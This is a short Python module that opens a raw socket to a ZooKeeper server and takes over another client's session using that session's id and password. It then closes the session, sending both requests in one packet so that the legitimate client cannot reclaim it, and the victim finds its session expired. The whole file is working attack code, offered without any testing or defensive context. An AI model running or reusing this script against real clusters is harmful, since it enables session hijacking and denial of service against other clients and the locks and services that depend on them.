"""Closes another client's session, with two requests of ZooKeeper's protocol."""

from __future__ import annotations

import socket
import struct

_CLOSE_SESSION = -11


def close_session(address: tuple[str, int], session_id: int, password: bytes) -> None:
    """Take over a session and close it: its own client finds it expired."""
    connect = struct.pack("!iqiqi", 0, 0, 6000, session_id, len(password)) + password + b"\0"
    close = struct.pack("!ii", 1, _CLOSE_SESSION)
    with socket.create_connection(address, 10) as sock:
        # both requests in one packet, so that the client has no time to take its session back
        sock.sendall(b"".join(struct.pack("!i", len(body)) + body for body in (connect, close)))
        while sock.recv(1 << 16):
            pass
